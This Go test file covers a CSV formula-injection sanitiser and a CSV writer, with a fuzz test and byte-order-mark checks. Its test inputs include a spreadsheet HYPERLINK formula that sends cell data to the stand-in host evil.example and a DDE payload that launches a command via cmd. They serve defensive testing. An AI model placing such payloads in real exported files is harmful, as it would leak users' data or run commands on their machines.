package text_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"procfin/platform/text"
)

func TestFormulaSafe(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?d="&B2,"x")`, `'=HYPERLINK("http://evil.example/?d="&B2,"x")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-.5", "'-.5"},
		{"-12.", "'-12."},
		{"-1e5", "'-1e5"},
		// Valid decimal numbers stay numbers; plain text stays as it is.
		{"-12.50", "-12.50"},
		{"-0.01", "-0.01"},
		{"-3", "-3"},
		{"3100.00", "3100.00"},
		{"Quancheng Software Co.", "Quancheng Software Co."},
		{"泉城软件", "泉城软件"},
		{"a=b", "a=b"},
		{"", ""},
	} {
		if got := text.FormulaSafe(tc.in); got != tc.want {
			t.Errorf("FormulaSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVWriterNeutralisesEveryCell(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := text.NewCSVWriter(&buf)
	if err := w.Write([]string{"=1+1", "-12.50", "ok", "@x"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Write([]string{"second"}); err != nil { // a second flush writes no second mark
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	// The file starts with the UTF-8 byte order mark, once.
	out, ok := bytes.CutPrefix(buf.Bytes(), []byte{0xEF, 0xBB, 0xBF})
	if !ok || bytes.Contains(out, []byte(text.BOM)) {
		t.Fatalf("CSV %q: want one byte order mark, first", buf.Bytes())
	}
	r := csv.NewReader(bytes.NewReader(out))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(rows[0], "|"); got != "'=1+1|-12.50|ok|'@x" || len(rows) != 2 || rows[1][0] != "second" {
		t.Fatalf("rows %q", rows)
	}
}

// FuzzFormulaSafe: no cell leaves starting with a formula character unless
// it is a plain negative decimal; text already safe is left alone.
func FuzzFormulaSafe(f *testing.F) {
	for _, s := range []string{"=1", "-12.50", "-", "+", "@", "\t", "\r", "x", "", "-1.2.3"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := text.FormulaSafe(s)
		if got != s && got != "'"+s {
			t.Fatalf("FormulaSafe(%q) = %q", s, got)
		}
		if got == "" {
			return
		}
		switch got[0] {
		case '=', '+', '@', '\t', '\r':
			t.Fatalf("FormulaSafe(%q) = %q starts a formula", s, got)
		case '-':
			if strings.Trim(got, "-0123456789.") != "" || strings.Count(got, "-") != 1 || strings.Count(got, ".") > 1 ||
				strings.HasSuffix(got, ".") || strings.HasPrefix(got, "-.") || got == "-" {
				t.Fatalf("FormulaSafe(%q) = %q starts a formula", s, got)
			}
		}
	})
}
